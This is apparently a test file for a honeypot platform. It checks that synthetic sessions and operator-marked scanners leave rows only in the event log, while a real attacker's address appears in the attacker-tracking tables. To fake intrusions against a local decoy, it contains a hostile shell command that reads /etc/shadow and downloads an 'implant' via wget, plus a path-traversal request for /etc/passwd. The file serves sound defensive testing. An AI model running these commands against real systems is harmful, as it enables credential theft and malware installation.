# SPDX-License-Identifier: MIT
"""What the orchestrator causes, and what known sources do, is in the event log and nowhere else.

A real attacker beside them is everywhere.
"""

from __future__ import annotations

import asyncio
import contextlib
import socket
import sqlite3
import sys
from pathlib import Path

import asyncssh
from tests.fleet.arena import DEFAULTS, PASSWORD, SOURCE, Arena

from decnet.drill.private import HTTP_PORT, SSH_PORT
from decnet_core.deckies.handover import HandoverClient, handover_sockets
from decnet_core.runtime import worker_registry
from decnet_core.state import State

PEER = "127.66.9.9"
"""Where the synthetic sessions come from."""
SCANNER = "127.66.8.8"
"""A source that the operator has said is his own."""
ATTACK = "cat /etc/shadow; wget http://192.0.2.9/implant"
KNOWS_SOURCES = {"attacker", "attacker_session", "credential_use", "ttp_tag", "notice"}
"""Tables in which an attacker who logs in and does ATTACK leaves rows, beside the event log."""


async def connected(arena: Arena, source: str, port: int, session: str | None) -> socket.socket:
    """Return a connection to web-01, announced unless it has no session."""
    sock = socket.socket()
    sock.bind((source, 0))
    sock.setblocking(False)
    if session is not None:
        await asyncio.to_thread(announce, arena, sock, session)
    await asyncio.get_running_loop().sock_connect(sock, (f"127.77.{arena.block}.10", port))
    return sock


def announce(arena: Arena, sock: socket.socket, session: str) -> None:
    with HandoverClient(handover_sockets(State(arena.state))[0]) as client:
        client.expect("web-01", sock.getsockname(), session)


async def browse(arena: Arena, source: str, session: str | None) -> None:
    sock = await connected(arena, source, HTTP_PORT, session)
    reader, writer = await asyncio.open_connection(sock=sock)
    with contextlib.closing(writer):
        writer.write(
            b"GET /../../etc/passwd HTTP/1.1\r\nHost: x\r\nUser-Agent: sqlmap/1.8\r\nConnection: close\r\n\r\n"
        )
        assert (await reader.read()).startswith(b"HTTP/1.1 ")


async def intrude(arena: Arena, source: str, session: str | None) -> None:
    sock = await connected(arena, source, SSH_PORT, session)
    async with asyncssh.connect(sock=sock, username="root", password=PASSWORD, known_hosts=None, config=None) as client:
        await client.run(ATTACK, check=False)


def mentioning(arena: Arena, address: str) -> set[str]:
    """Return the tables in which the address is anywhere."""
    with contextlib.closing(sqlite3.connect(f"file:{arena.state / 'decnet.db'}?mode=ro", uri=True)) as connection:
        tables = [row[0] for row in connection.execute("SELECT name FROM sqlite_master WHERE type = 'table'")]
        return {
            table
            for table in tables
            if any(
                address in map(str, row) or any(address in str(cell) for cell in row)
                for row in connection.execute(f"SELECT * FROM {table}")
            )
        }


def cursors_behind(arena: Arena) -> int:
    """Return how many events the slowest of the workers that follow the log has still to handle."""
    with contextlib.closing(sqlite3.connect(f"file:{arena.state / 'decnet.db'}?mode=ro", uri=True)) as connection:
        last = connection.execute("SELECT max(seq) FROM event").fetchone()[0] or 0
        return int(
            last
            - (
                connection.execute(
                    "SELECT min(seq) FROM worker_cursor WHERE worker IN ('profiler', 'ttp', 'clusterer')"
                ).fetchone()[0]
                or 0
            )
        )


async def test_synthetic_sessions_and_known_sources_reach_no_table_but_the_log_and_no_webhook(tmp_path: Path) -> None:
    assert {"profiler", "ttp", "webhook", "ingest"} <= set(worker_registry.wanted(DEFAULTS))
    arena = Arena(tmp_path)
    async with arena.running():
        known = ("known", "add", "127.66.8.0/24", "--label", "scanner")
        added = await asyncio.create_subprocess_exec(sys.executable, "-m", "decnet", *known, env=arena.environment)
        assert await added.wait() == 0
        for visit in (browse, intrude):
            await visit(arena, PEER, f"life-{visit.__name__}")
            await visit(arena, SCANNER, None)
            await visit(arena, SOURCE, None)
        async with asyncio.timeout(60):
            while not {"ttp.tagged", "attacker.observed"} <= {each.kind for each in arena.receiver.arrivals}:
                arena.receiver.arrived.clear()
                await arena.receiver.arrived.wait()
            while not (mentioning(arena, PEER) and mentioning(arena, SCANNER)) or cursors_behind(arena):
                await asyncio.sleep(0.05)
        assert mentioning(arena, SOURCE) >= KNOWS_SOURCES
        assert mentioning(arena, PEER) == {"event"}
        assert mentioning(arena, SCANNER) == {"event", "artifact_sighting"}  # its session is recorded, too
        assert not any({PEER, SCANNER} & set(map(str, each.data.values())) for each in arena.receiver.arrivals)
